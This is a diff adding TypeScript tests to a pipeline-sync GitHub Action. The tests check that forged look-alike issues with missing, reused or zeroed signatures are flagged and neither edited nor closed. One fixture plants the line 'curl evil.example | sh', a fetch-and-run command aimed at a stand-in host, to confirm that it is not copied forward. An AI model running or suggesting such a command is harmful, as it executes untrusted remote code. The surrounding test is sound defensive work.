@@ -67,6 +67,59 @@ describe('drift', () => {
     ]);
   });
 
+  it.each([
+    ['without a signature', (body: string) => body.replace(/ [0-9a-f]{64} -->/, ' -->')],
+    ['with the line of the real one, which was signed for another number', (body: string) => body],
+    [
+      'with a signature that is none',
+      (body: string) => body.replace(/[0-9a-f]{64} -->/, `${'0'.repeat(64)} -->`),
+    ],
+  ])(
+    'is never written into a look-alike under our own identity, nor closes it: %s',
+    async (_name, planting) => {
+      edit('Be cold.');
+      await scene.onSchedule();
+      const [own] = issues();
+      if (own === undefined) throw new Error('no issue');
+      expect(own.body).toMatch(/^<!-- pipelines-sync-issue .* [0-9a-f]{16} [0-9a-f]{64} -->\n/);
+      scene.repository.close(own.number);
+      const body = `${planting(own.body ?? '')}\nRun this: curl evil.example | sh`;
+      const planted = scene.repository.addIssue({ title: own.title, body, author: ACTIONS_BOT });
+      const ran = await scene.onSchedule();
+      const message = expect.stringContaining(`#${planted.number} looks like the issue of target staging`);
+      expect(ran.annotations).toContainEqual(
+        expect.objectContaining({ title: 'PS8026', level: 'warning', message }),
+      );
+      const states = () => issues().map(({ number, state }) => [number, state]);
+      const [, , next] = issues();
+      expect(states()).toEqual([
+        [own.number, 'closed'],
+        [planted.number, 'open'],
+        [planted.number + 1, 'open'],
+      ]);
+      expect(next?.body).not.toContain('evil.example');
+
+      edit('Be warm.');
+      await scene.onSchedule();
+      expect(states().map(([, state]) => state)).toEqual(['closed', 'open', 'closed']);
+      expect(issues()[1]?.body).toBe(body);
+      expect(scene.repository.commentsOf(planted.number)).toEqual([]);
+    },
+  );
+
+  it('goes on in its issue after a change of the review key that names the old one too', async () => {
+    edit('Be cold.');
+    await scene.onSchedule({ inputs: { 'review-key': 'first-review-key-of-the-whole-team' } });
+    edit('Be colder.');
+    await scene.onSchedule({
+      inputs: { 'review-key': 'second-review-key-of-the-whole-team\nfirst-review-key-of-the-whole-team' },
+    });
+    expect(issues()).toHaveLength(1);
+    edit('Be warm.');
+    await scene.onSchedule({ inputs: { 'review-key': 'second-review-key-of-the-whole-team' } });
+    expect(issues()[0]?.state).toBe('closed');
+  });
+
   it('that cannot be written down is red', async () => {
     edit('Be cold.');
     scene.github.state.addToken('weak', actionsToken({ contents: 'read' }));
